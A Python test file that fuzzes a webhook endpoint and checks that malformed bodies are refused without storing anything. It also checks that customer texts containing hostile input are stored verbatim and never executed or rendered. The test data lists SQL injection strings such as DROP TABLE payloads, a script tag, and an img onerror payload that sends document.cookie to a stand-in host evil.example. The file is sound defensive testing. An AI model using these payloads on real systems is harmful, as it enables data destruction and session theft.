"""Hostile input: fuzzed webhooks, oversize and broken bodies, SQL and script in texts.

The webhook endpoint must never answer 5xx, and a request it refuses must leave the
event log as it was. A text carrying SQL or markup is stored as the customer wrote it
and never executed or rendered: the tables survive, the console API answers JSON, the
console script never uses innerHTML, and the audit CLI prints no raw control codes.
"""

from __future__ import annotations

import asyncio
import collections
import json
import os
import subprocess
import sys
import time
from collections.abc import AsyncIterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from e2e_support import SIGNING_KEY, conversation_of, settled, signed_text, wait_until
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from reliability_support import FULL, MAX_BODY, InProcess, Ledger, in_process

from claw_adapters.fakes.openphone import message_received, signed_legacy_webhook
from claw_adapters.openphone import PayloadGeneration
from claw_domain.text import clean
from claw_entrypoints.demo import VENUE_LINE
from claw_service.history import conversation_history

EXAMPLES = 400 if FULL else 150


def _text_payload(customer: str, text: str) -> dict[str, Any]:
    return message_received(
        PayloadGeneration.APP,
        text=text,
        customer=customer,
        venue=VENUE_LINE,
        created_at=datetime.now(UTC),
    )


HEADER_NAMES = (
    "openphone-signature",
    "webhook-id",
    "webhook-timestamp",
    "webhook-signature",
    "content-type",
    "x-forwarded-for",
)
header_value = st.text(alphabet=st.characters(min_codepoint=0x20, max_codepoint=0x7E), max_size=120)
json_leaf = (
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=40)
)
json_value = st.recursive(
    json_leaf,
    lambda inner: (
        st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=12), inner, max_size=4)
    ),
    max_leaves=20,
)
event_types = st.sampled_from(
    ["message.received", "message.created", "message.delivered", "call.completed", "", "x"]
)


@st.composite
def message_like(draw: st.DrawFn) -> dict[str, Any]:
    """Shaped like an OpenPhone message webhook, with any field swapped for junk."""
    message: dict[str, Any] = {
        "id": draw(st.text(max_size=20) | json_value),
        "object": "message",
        "from": draw(st.sampled_from(["+19025551234", "", "not-a-number", "+1"]) | json_value),
        "to": draw(st.sampled_from([VENUE_LINE, [VENUE_LINE], []]) | json_value),
        "direction": draw(st.sampled_from(["incoming", "outgoing", "sideways"]) | json_value),
        "body": draw(st.text(max_size=300) | json_value),
        "createdAt": draw(
            st.sampled_from(["2026-11-25T12:00:00.000Z", "yesterday", ""]) | json_value
        ),
    }
    for key in draw(st.lists(st.sampled_from(sorted(message)), max_size=3)):
        message.pop(key, None)
    return {
        "id": draw(st.text(max_size=20)),
        "object": "event",
        "type": draw(event_types),
        "data": draw(st.sampled_from([{"object": message}, {"resource": message}, message])),
    }


@st.composite
def valid_with_fuzzed_text(draw: st.DrawFn) -> dict[str, Any]:
    """A well-formed incoming text whose body is any text at all, lone surrogates included."""
    text = draw(st.text(st.characters(exclude_categories=()), min_size=1, max_size=200))
    payload = _text_payload(f"+1902555{draw(st.integers(0, 9999)):04d}", "PLACEHOLDER")
    payload["data"]["object"]["body"] = text  # type: ignore[index]
    return payload


bodies = st.one_of(
    st.binary(max_size=2000),
    json_value.map(lambda v: json.dumps(v).encode()),
    message_like().map(lambda v: json.dumps(v).encode()),
    valid_with_fuzzed_text().map(lambda v: json.dumps(v).encode()),
)


@pytest.fixture
async def quiet_venue(tmp_path: Path) -> AsyncIterator[InProcess]:
    """No worker: only the webhook handler writes, so the log position tells what it stored."""
    async with in_process(f"sqlite:///{tmp_path / 'claw.db'}", run_worker=False) as running:
        yield running


FUZZ: collections.Counter[str] = collections.Counter()


@settings(
    max_examples=EXAMPLES,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(
    body=bodies,
    headers=st.dictionaries(st.sampled_from(HEADER_NAMES), header_value, max_size=4),
    sign=st.booleans(),
)
async def test_fuzzed_webhooks_never_5xx_and_refusals_store_nothing(
    quiet_venue: InProcess, body: bytes, headers: dict[str, str], sign: bool
) -> None:
    if sign:
        body, signed = signed_legacy_webhook(body, SIGNING_KEY, int(time.time() * 1000))
        headers = {**headers, **signed}
    before = await quiet_venue.log_position()
    answer = await quiet_venue.client.post("/webhooks/openphone", data=body, headers=headers)
    status = answer.status
    document = await answer.json(content_type=None)
    after = await quiet_venue.log_position()
    outcome = f"{status} {document.get('status', '')}".strip()
    FUZZ[outcome] += 1
    assert status < 500, document
    assert status in (200, 202, 400, 401, 413), (status, document)
    if status != 202 and document.get("status") != "recorded":
        assert after == before, (status, document)


def test_fuzz_figures(ledger: Ledger) -> None:
    """Runs after the fuzz test (file order) and books its counts."""
    figures = ledger.scenario(
        "hostile: hypothesis-fuzzed webhook bodies and headers",
        "tests/reliability/test_hostile_input.py::test_fuzzed_webhooks_never_5xx_and_refusals_store_nothing",
    )
    figures.attempts = sum(FUZZ.values())
    figures.accepted = sum(n for outcome, n in FUZZ.items() if outcome.startswith("2"))
    figures.refused = sum(n for outcome, n in FUZZ.items() if outcome.startswith("4"))
    figures.lost = sum(n for outcome, n in FUZZ.items() if outcome.startswith("5"))
    figures.note("answers: " + ", ".join(f"{outcome} x{n}" for outcome, n in sorted(FUZZ.items())))
    figures.note("no 5xx; every refused request left the log unchanged (checked per request)")
    print(figures.line())
    if not FUZZ:
        pytest.skip("the fuzz test did not run in this session")


# Oversize, broken and hostile bodies ---------------------------------------------------------


def _signed_raw(body: bytes) -> tuple[bytes, dict[str, str]]:
    return signed_legacy_webhook(body, SIGNING_KEY, int(time.time() * 1000))


async def _chunks(data: bytes, size: int = 4096) -> AsyncIterator[bytes]:
    for start in range(0, len(data), size):
        yield data[start : start + size]


BROKEN = {
    "oversize, with Content-Length": None,  # built below: needs the body size
    "non-UTF-8 bytes": b'\xff\xfe\xfa{"type": "message.received"}\x80\x81',
    "UTF-16 JSON": json.dumps({"type": "message.received"}).encode("utf-16"),
    "JSON nested 10000 deep": b"[" * 10_000 + b"]" * 10_000,
    "a JSON string, not an object": b'"message.received"',
    "NaN and huge numbers": (
        b'{"type": "message.received", "data": {"object": {"body": NaN, "from": 1e999}}}'
    ),
}

SQL_AND_MARKUP = (
    "'; DROP TABLE stored_events; --",
    "1' OR '1'='1'; DELETE FROM tracking WHERE '1'='1",
    "Robert'); DROP TABLE claw_projection_documents;--",
    "<script>alert('claw')</script>",
    '<img src=x onerror="fetch(`//evil.example/`+document.cookie)">',
    "{{7*7}} ${7*7} %(name)s {0.__class__}",
    "\x1b[2J\x1b[31mRED\x1b[0m terminal escape \x07",
    "line one\r\nline two\u2028line three\u0085",
    "zero\u200bwidth \u202eesrever\u202c text",
    "NUL \x00 inside",
)


async def test_broken_bodies_and_hostile_texts(tmp_path: Path, ledger: Ledger) -> None:
    figures = ledger.scenario(
        "hostile: oversize, non-UTF-8, broken JSON, SQL/script texts",
        "tests/reliability/test_hostile_input.py::test_broken_bodies_and_hostile_texts",
    )
    problems: list[str] = []
    stored_verbatim = 0
    async with in_process(f"sqlite:///{tmp_path / 'claw.db'}") as venue:
        app = venue.runtime.app
        # Refused bodies, signed so the parser (not the signature check) must refuse them.
        oversize = json.dumps(_text_payload("+19025550901", "x" * (MAX_BODY + 10))).encode()
        cases: dict[str, tuple[bytes, dict[str, str]] | tuple[Any, dict[str, str]]] = {
            name: _signed_raw(body) for name, body in BROKEN.items() if body is not None
        }
        cases["oversize, with Content-Length"] = _signed_raw(oversize)
        before = await venue.log_position()
        for name, (body, headers) in cases.items():
            answer = await venue.client.post("/webhooks/openphone", data=body, headers=headers)
            if answer.status >= 500 or answer.status in (200, 202):
                problems.append(f"{name}: answered {answer.status}")
        body, headers = _signed_raw(oversize)
        chunked = await venue.client.post(
            "/webhooks/openphone", data=_chunks(body), headers=headers
        )
        if chunked.status != 413:
            problems.append(f"oversize, chunked without Content-Length: {chunked.status}")
        # A lone surrogate is valid JSON (an escape) but no valid text: refused or stored,
        # never a 5xx.
        surrogate = json.dumps(_text_payload("+19025550902", "PLACEHOLDER")).replace(
            "PLACEHOLDER", "hi \\ud800 there"
        )
        answer = await venue.client.post(
            "/webhooks/openphone",
            data=surrogate.encode(),
            headers=_signed_raw(surrogate.encode())[1],
        )
        if answer.status >= 500:
            problems.append(f"lone surrogate in the text: answered {answer.status}")
        refused_cases = len(cases) + 1
        surrogate_status = answer.status
        if answer.status != 202 and await venue.log_position() != before:
            problems.append("a refused body stored something")

        # SQL and markup in customer texts: stored as written, never executed.
        customers = {}
        for n, text in enumerate(SQL_AND_MARKUP):
            customer = f"+1902555{n + 910:04d}"
            customers[customer] = text
            status, document = await venue.deliver(signed_text(customer, text))
            if status != 202:
                problems.append(f"{text!r}: answered {status} {document}")
        everyone = [conversation_of(c) for c in customers]
        await wait_until(
            lambda: asyncio.to_thread(settled, app, everyone),
            within=20,
            what="hostile texts settled",
        )
        for customer, text in customers.items():
            history = await asyncio.to_thread(conversation_history, app, conversation_of(customer))
            bodies = [t.body for t in history.texts]
            # Stored as written, less the characters claw never stores (claw_domain.text).
            if bodies == [clean(text)]:
                stored_verbatim += 1
            else:
                problems.append(f"{text!r} stored as {bodies!r}")
        tables = await asyncio.to_thread(_tables, tmp_path / "claw.db")
        for table in ("stored_events", "tracking", "claw_projection_documents"):
            if table not in tables:
                problems.append(f"table {table} is gone")

    # The audit CLI prints the timeline of the hostile texts without raw control codes.
    env = {
        **{k: v for k, v in os.environ.items() if not k.startswith("CLAW_")},
        "CLAW_DATABASE_URL": f"sqlite:///{tmp_path / 'claw.db'}",
    }
    printed = []
    for customer in list(customers)[-4:]:
        for extra in ([], ["--json"]):
            run = await asyncio.to_thread(
                subprocess.run,  # our own CLI, fixed arguments
                [
                    sys.executable,
                    "-m",
                    "claw_entrypoints.cli",
                    "audit",
                    "replay",
                    "--phone",
                    customer,
                    *extra,
                ],
                capture_output=True,
                text=True,
                env=env,
                timeout=60,
                check=False,
            )
            printed.append(run.stdout)
            if run.returncode != 0:
                problems.append(
                    f"audit replay {customer}: exit {run.returncode}: {run.stderr[-300:]}"
                )
    controls = sorted({repr(ch) for out in printed for ch in out if _is_control(ch)})
    if controls:
        problems.append(f"audit replay printed raw control characters {controls}")
    console = await asyncio.to_thread(CONSOLE_JS.read_text)
    if ".innerHTML" in console or "insertAdjacentHTML" in console:
        problems.append("console.js writes HTML from data")

    figures.attempts = refused_cases + 1 + len(SQL_AND_MARKUP)
    figures.accepted = 1 + len(SQL_AND_MARKUP)
    figures.refused = refused_cases
    figures.lost = len([p for p in problems if "stored as" not in p])
    figures.doubled = 0
    figures.note(
        f"{refused_cases} broken bodies refused (413/400, none stored, no 5xx); "
        f"a lone UTF-16 surrogate in a text answered {surrogate_status} (the surrogate "
        f"removed); {stored_verbatim}/{len(SQL_AND_MARKUP)} SQL/markup/control-code texts "
        "stored as written less the controls claw never stores, "
        "tables intact, audit CLI output free of control codes, console uses textContent only"
    )
    print(figures.line())
    print("\n".join(problems))
    assert problems == []


CONSOLE_JS = Path(__file__).resolve().parents[2] / "src/claw_entrypoints/web/console/console.js"


def _is_control(ch: str) -> bool:
    code = ord(ch)
    return (code < 0x20 and ch not in "\n\t") or 0x7F <= code < 0xA0 or ch in "\u2028\u2029\u202e"


def _tables(path: Path) -> set[str]:
    import sqlite3  # noqa: PLC0415

    with sqlite3.connect(path) as connection:
        return {row[0] for row in connection.execute("SELECT name FROM sqlite_master")}
